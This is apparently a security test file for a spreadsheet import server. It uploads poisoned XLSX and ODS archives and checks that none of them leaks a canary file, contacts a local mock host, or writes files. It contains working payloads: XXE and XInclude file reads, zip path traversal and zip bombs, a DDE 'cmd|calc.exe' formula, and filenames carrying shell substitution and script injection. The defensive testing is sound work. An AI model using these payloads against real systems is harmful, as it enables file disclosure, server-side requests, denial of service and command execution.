// Poisoned workbooks and archives: links outside, files as entities, names that climb, entries twice, overlapping, encrypted, countless, formulas that
// start programs, macros; and names of files that climb. Nothing is asked of another host, no file is read or made, nothing fails.
//   BEREG=… BEREG_TEST_DB=sqlite|postgres node tests/poison.mjs
import fs from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import { Register, tmpDir } from './lib/server.mjs';
import { PERSON_HEAD, personRow, persons, rest, upload, xlsx, xlsxParts, zip } from './lib/import-files.mjs';
import { finish, is, note, ok, part } from './lib/tap.mjs';

const register = Register.demo({ persons: 60, name: 'poison' });
const dir = fs.mkdtempSync(path.join(tmpDir(), 'poison-'));
const temporary = path.join(dir, 'tmp');
fs.mkdirSync(temporary);
const SECRET = 'CANARY-OF-THE-SYSTEM-9127';
const canary = path.join(dir, 'canary.txt');
fs.writeFileSync(canary, SECRET);
let hits = 0;
const far = http.createServer((q, a) => { hits += 1; a.end(SECRET); });
await new Promise((r) => { far.listen(0, '127.0.0.1', r); });
const host = `127.0.0.1:${far.address().port}`;
const server = await register.serve({ env: { TMPDIR: temporary } });
const penal = server.client({ token: register.token('penal1') });
const climbing = [...Array(12)].map(() => '..').join('/');

const rows = () => [PERSON_HEAD, ...persons(2).map(personRow)];
const parts = (more, r = rows()) => zip({ ...xlsxParts(r), ...more });
const sheet = 'xl/worksheets/sheet1.xml';
const strings = 'xl/sharedStrings.xml';
const MAIN = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const rels = (targets) => `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${targets.map(([type, target, mode], i) => `<Relationship Id="rId${i + 1}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${
  type}" Target="${target}"${mode ? ` TargetMode="${mode}"` : ''}/>`).join('')}</Relationships>`;
const replaced = (bytes, from, to) => { // names in an archive, of one length
  const text = bytes.toString('latin1');
  if (!text.includes(from)) throw new Error(`no ${from}`);
  return Buffer.from(text.replaceAll(from, to), 'latin1');
};
const flagged = (bytes, bit) => { // a flag of every entry
  const b = Buffer.from(bytes);
  for (let i = 0; i + 10 < b.length; i += 1) {
    if (b.readUInt32LE(i) === 0x04034b50) b.writeUInt16LE(b.readUInt16LE(i + 6) | bit, i + 6);
    if (b.readUInt32LE(i) === 0x02014b50) b.writeUInt16LE(b.readUInt16LE(i + 8) | bit, i + 8);
  }
  return b;
};
const overlapping = () => { // every entry of the list is the same bytes of 20 MB
  const one = zip({ 'a000': Buffer.alloc(20 << 20, 32) }, { deflate: true });
  const at = one.readUInt32LE(one.length - 6);
  const entry = one.subarray(at, one.length - 22);
  const list = Buffer.concat(Array.from({ length: 400 }, () => entry));
  const end = Buffer.from(one.subarray(one.length - 22));
  end.writeUInt16LE(400, 8);
  end.writeUInt16LE(400, 10);
  end.writeUInt32LE(list.length, 12);
  return Buffer.concat([one.subarray(0, at), list, end]);
};
const dde = "cmd|'/c calc.exe'!A1";

const files = {
  'strings elsewhere, by a link': parts({ 'xl/_rels/workbook.xml.rels': rels([['worksheet', 'worksheets/sheet1.xml'], ['styles', 'styles.xml'], ['sharedStrings', `http://${host}/s.xml`, 'External']]) }),
  'the sheet in a file of the system': parts({ 'xl/_rels/workbook.xml.rels': rels([['worksheet', `${climbing}${canary}`], ['sharedStrings', `file://${canary}`, 'External']]) }),
  'a workbook elsewhere that cells refer to': parts({ 'xl/externalLinks/externalLink1.xml': `<externalLink xmlns="${MAIN}"><externalBook xmlns:r="http://x" r:id="rId1"/></externalLink>`,
    'xl/externalLinks/_rels/externalLink1.xml.rels': rels([['externalLinkPath', `http://${host}/book.xlsx`, 'External']]) }),
  'a picture and a page elsewhere': parts({ 'xl/worksheets/_rels/sheet1.xml.rels': rels([['hyperlink', `http://${host}/`, 'External'], ['image', `http://${host}/a.png`, 'External'], ['oleObject', `file://${canary}`, 'External']]) }),
  'a type of document from elsewhere': parts({ [strings]: `<!DOCTYPE sst SYSTEM "http://${host}/x.dtd"><sst xmlns="${MAIN}"><si><t>a</t></si></sst>` }),
  'an entity of parameters from elsewhere': parts({ [strings]: `<!DOCTYPE sst [<!ENTITY % e SYSTEM "http://${host}/e"> %e;]><sst xmlns="${MAIN}"><si><t>a</t></si></sst>` }),
  'a file as an entity': parts({ [sheet]: `<!DOCTYPE w [<!ENTITY e SYSTEM "file://${canary}">]><worksheet xmlns="${MAIN}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&e;</t></is></c></row></sheetData></worksheet>` }),
  'a file by XInclude': parts({ [strings]: `<sst xmlns="${MAIN}" xmlns:xi="http://www.w3.org/2001/XInclude"><si><t><xi:include href="file://${canary}" parse="text"/></t></si></sst>` }),
  'names that climb out': zip({ ...xlsxParts(rows()), [`${climbing}${dir}/made.txt`]: 'x', [`${dir}/made.txt`]: 'x', 'C:\\made.txt': 'x', [`xl/${climbing}${dir}/made.txt`]: 'x', [`..\\..\\made.txt`]: 'x' }),
  'a name with a NUL': replaced(parts({ 'xl/made_.txt': 'x' }), 'made_.txt', 'made\0.txt'),
  'a name of 60,000 letters': parts({ [`xl/${'a'.repeat(60000)}`]: 'x' }),
  'one sheet twice': replaced(parts({ 'xl/worksheets/sheetX.xml': `<worksheet xmlns="${MAIN}"><sheetData/></worksheet>` }), 'sheetX.xml', 'sheet1.xml'),
  '20,000 entries': zip({ ...xlsxParts(rows()), ...Object.fromEntries(Array.from({ length: 20000 }, (_, i) => [`xl/media/${i}`, ''])) }),
  'entries that are all the same bytes': overlapping(),
  'an archive in an archive in an archive': zip({ ...xlsxParts(rows()), 'xl/a.zip': zip({ 'b.zip': zip({ c: Buffer.alloc(5 << 20) }, { deflate: true }) }, { deflate: true }) }),
  'encrypted entries': flagged(parts({}), 1),
  'sizes that are told later': flagged(parts({}), 8),
  macros: parts({ 'xl/vbaProject.bin': Buffer.from('d0cf11e0a1b11ae1', 'hex'), '[Content_Types].xml': '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/xl/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>' }),
  'formulas that start programs': xlsx([PERSON_HEAD, ...persons(2).map((p) => [{ formula: dde, value: p.family }, ...personRow(p).slice(1)])]),
  'a formula that asks elsewhere': xlsx([PERSON_HEAD, ...persons(1).map((p) => [p.family, { formula: `WEBSERVICE("http://${host}/")`, value: p.given }, ...personRow(p).slice(2)])]),
  'elements in 100,000 elements': parts({ [sheet]: `<worksheet xmlns="${MAIN}">${'<a>'.repeat(100000)}${'</a>'.repeat(100000)}</worksheet>` }),
  'one attribute of 5 MB': parts({ [sheet]: `<worksheet xmlns="${MAIN}" a="${'x'.repeat(5 << 20)}"><sheetData/></worksheet>` }),
  'a table of OpenDocument': zip({ mimetype: 'application/vnd.oasis.opendocument.spreadsheet', 'content.xml': `<!DOCTYPE x [<!ENTITY e SYSTEM "file://${canary}">]><office:document-content>&e;</office:document-content>`, 'META-INF/manifest.xml': '<x/>' }),
};

await part('workbooks', async () => {
  const kinds = new Map();
  let longest = 0;
  for (const [what, bytes] of Object.entries(files)) {
    const began = Date.now();
    const a = await upload(penal, bytes, { name: 'a.xlsx', list: 'Отрава' });
    let end = `${a.status}`;
    if (a.id) {
      const done = await rest(penal, a.id, { seconds: 30 });
      end = done.state;
      const text = (await penal.get(`/api/v1/imports/${a.id}?show=all&limit=50`)).text;
      if (text.includes(SECRET)) ok(false, `${what}: a file of the system or of another host is shown`, text.slice(0, 500));
      await penal.postJson(`/api/v1/imports/${a.id}/cancel`, { version: done.version });
      await rest(penal, a.id, { seconds: 30 });
    }
    longest = Math.max(longest, Date.now() - began);
    kinds.set(end, [...kinds.get(end) ?? [], what]);
    ok(a.status === 422 || a.status === 413 || a.id > 0, `${what}: ${a.id ? 'read as a table, nothing else' : 'refused'} (${end})`, a.text.slice(0, 400));
  }
  ok(longest < 15000, 'none takes long', `${longest} ms`);
  note(`the longest took ${longest} ms; ${[...kinds].map(([k, v]) => `${k}: ${v.length}`).join(', ')}`);
});

await part('names of files', async () => {
  const good = xlsx(rows());
  for (const name of [`${climbing}${dir}/made.txt`, `${dir}/made.xlsx`, '..\\\\..\\\\made.xlsx', 'a.xlsx\\u0000.txt', '%2e%2e%2fmade.xlsx', '=cmd|calc.xlsx', '|made.xlsx', '$(touch made).xlsx', '-rf.xlsx', 'CON.xlsx', `${'я'.repeat(400)}.xlsx`, '<script>alert(1)</script>.xlsx']) {
    const a = await upload(penal, good, { name, list: 'Имена' });
    ok(a.status < 500, `${name.slice(0, 50)}: ${a.status}`);
    if (!a.id) continue;
    const done = await rest(penal, a.id, { seconds: 30 });
    await penal.postJson(`/api/v1/imports/${a.id}/cancel`, { version: done.version });
  }
  const page = (await (await server.client().signIn('penal1')).get('/imports')).text;
  ok(!/<script>alert/.test(page), 'the list of imports shows them as text');
});

await part('afterwards', async () => {
  is(hits, 0, 'no other host was asked for anything');
  ok(!register.files().includes(SECRET) && !server.err.includes(SECRET), 'no file of the system stands in the register or the log');
  const made = ['/made.txt', '/made.xlsx', path.join(process.cwd(), 'made'), path.join(process.cwd(), 'made.xlsx'), path.join(dir, 'made.txt'), path.join(dir, 'made.xlsx')].filter((f) => fs.existsSync(f));
  is([made, fs.readdirSync(dir).sort(), fs.readdirSync(temporary)], [[], ['canary.txt', 'tmp'], []], 'no file was made, and no temporary one is left');
  is((await server.client().get('/health')).status, 200, 'the server is well');
  is(register.run(['check']).status, 0, 'bereg check finds nothing');
});

is(await server.stop(), 0, 'the server ends well');
far.close();
fs.rmSync(dir, { recursive: true, force: true });
await register.drop();
finish();
process.exit();
